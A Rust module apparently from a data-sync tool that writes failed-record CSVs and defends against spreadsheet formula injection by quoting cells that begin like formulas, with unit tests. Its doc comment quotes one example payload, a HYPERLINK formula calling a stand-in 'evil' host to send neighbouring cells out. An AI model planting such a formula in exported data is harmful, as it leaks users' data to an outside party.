//! The CSV files segsync writes for people (the records a run could not send), safe to open
//! in a spreadsheet.
//!
//! The values come from the data (profile keys, addresses, Mailchimp's reasons), so anybody
//! who can put a row in the profiles can choose them. A spreadsheet evaluates a cell that
//! starts with `=`, `+`, `-` or `@` as a formula (and one that starts with a tab or a
//! carriage return, once trimmed): `=HYPERLINK("https://evil/?"&A2, "details")` in an
//! address would send the cells next to it away when a user clicks. As OWASP advises, such
//! a cell is written with a single quote in front, which spreadsheets show as text.

use std::borrow::Cow;
use std::io::Write;

use segsync_core::RecordError;

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet shows it as text: with a `'` in front when it starts like a
/// formula, as it is otherwise.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Writes the records a run could not send as CSV (`profile_key,email,reason`), every cell
/// made [`spreadsheet_safe`]; gives the writer back, flushed.
pub fn write_run_errors<W: Write>(out: W, errors: &[RecordError]) -> csv::Result<W> {
    let mut w = csv::Writer::from_writer(out);
    w.write_record(["profile_key", "email", "reason"])?;
    for e in errors {
        w.write_record([
            spreadsheet_safe(&e.profile_key).as_ref(),
            spreadsheet_safe(&e.email).as_ref(),
            spreadsheet_safe(&e.reason).as_ref(),
        ])?;
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_start_like_formulas_get_a_quote() {
        for (cell, want) in [
            ("=1+1", "'=1+1"),
            ("+SUM(1)", "'+SUM(1)"),
            ("-2", "'-2"),
            ("@cmd", "'@cmd"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("ana@example.com", "ana@example.com"),
            ("a=1", "a=1"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), want, "{cell:?}");
        }
    }
}
